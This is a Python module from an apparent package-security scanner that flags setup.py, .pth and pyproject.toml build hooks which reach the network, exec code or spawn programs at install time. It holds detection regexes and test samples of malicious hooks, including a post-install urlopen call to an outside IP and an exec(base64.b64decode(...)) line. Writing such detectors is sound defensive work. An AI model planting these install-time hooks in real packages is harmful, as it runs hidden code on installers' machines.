"""Python build scripts (`setup.py`, in-tree build backends, `.pth` files) that reach the network,
spawn programs or exec code while `pip install` builds or starts the package."""

from __future__ import annotations

import re
from collections.abc import Iterator

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target
from heistguard.findings import Finding, Rule, Severity

RULE = Rule(
    id="artifacts.python-build-hook",
    severity=Severity.HIGH,
    title="Python build script reaches the network or executes code at install time",
    rationale="`setup.py` runs with the installing user's rights on `pip install` of an sdist, and a `.pth` "
    "file's `import` lines run at every interpreter start; malicious PyPI packages put their downloader "
    "there. Network access or exec at build time is high; spawning a program (often a compiler) is low.",
    attack=("T1195.002", "T1059.006"),
    references=("https://docs.python.org/3/library/site.html",),
)

_NETWORK = re.compile(
    r"\b(?:urllib\.request|urlopen|urlretrieve|requests\.(?:get|post)|http\.client|httpx\.|socket\.socket|"
    r"urllib2|ftplib|smtplib)\b|\b(?:curl|wget)\s"
)
_EXEC = re.compile(
    r"(?<![\w.])(?:exec|eval)\s*\((?!\s*['\"])|__import__\s*\(\s*['\"](?:os|subprocess|socket)|\bcompile\s*\([^)]*['\"]exec['\"]"
)
_SPAWN = re.compile(
    r"\b(?:subprocess\.(?:Popen|call|run|check_call|check_output)|os\.(?:system|popen|exec\w*|spawn\w*))\s*\("
)
# `backend-path = ["."]` (or any in-tree folder) makes pip import the repo's own build code.
_IN_TREE_BACKEND = re.compile(r"^\s*backend-path\s*=\s*\[[^\]]*['\"]\.{0,2}[\w./-]*['\"]", re.M)
_COMMENT = re.compile(r"^\s*#.*$", re.M)


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    if target.name == "pyproject.toml":
        backend = _IN_TREE_BACKEND.search(target.text)
        if backend:
            yield RULE.finding(
                "pyproject.toml builds with a backend from the repo itself (code run by pip install)",
                [target.evidence(backend.start())],
                severity=Severity.MEDIUM,
            )
        return
    text = _COMMENT.sub(lambda m: " " * len(m.group(0)), target.text)
    if target.name.endswith(".pth"):
        # Only lines starting with `import` are executed; anything beyond a plain import is code.
        for match in re.finditer(r"^import\s+(.+)$", text, re.M):
            body = match.group(1)
            # setuptools and editable installs ship code lines too; only network, exec or spawning counts.
            if _NETWORK.search(body) or _EXEC.search(body) or _SPAWN.search(body) or "b64decode" in body:
                yield RULE.finding(
                    ".pth file reaches the network or runs programs at every Python start",
                    [target.evidence(match.start())],
                )
        return
    for reason, pattern, severity in (
        ("reaches the network", _NETWORK, Severity.HIGH),
        ("executes dynamic code", _EXEC, Severity.HIGH),
        ("spawns a program", _SPAWN, Severity.LOW),
    ):
        hit = pattern.search(text)
        if hit:
            yield RULE.finding(
                f"{target.name} {reason} at install time", [target.evidence(hit.start())], severity=severity
            )


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: (
        t.is_text
        and (
            t.name == "setup.py"
            or (t.name == "pyproject.toml" and "backend-path" in t.text)
            or (t.name.endswith(".pth") and "import" in t.text[:65536])
        )
    ),
    check=_check,
    bad=(
        Sample(
            "setup.py",
            b"from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\n"
            b"class PostInstall(install):\n    def run(self):\n"
            b"        urllib.request.urlopen('http://203.0.113.9/x').read()\n        install.run(self)\n"
            b"setup(name='req-utils', cmdclass={'install': PostInstall})\n",
        ),
        Sample("setup.py", b"import base64\nexec(base64.b64decode(PAYLOAD))\nfrom setuptools import setup\nsetup()\n"),
        Sample("evil.pth", b"import os; os.system('id')\n"),
        Sample(
            "pyproject.toml",
            b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
        ),
    ),
    good=(
        Sample(
            "setup.py",
            b"from setuptools import setup\n# exec(open('x').read()) is not used\nsetup(name='ok', version='1.0')\n",
        ),
        Sample("distutils-precedence.pth", b"import os\n"),
        Sample("pyproject.toml", b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'),
        Sample(
            "zz.pth",
            b"import os; enabled = os.environ.get('X', 'local') == 'local'; "
            b"enabled and __import__('_hack').add_shim(); \n",
        ),
    ),
)
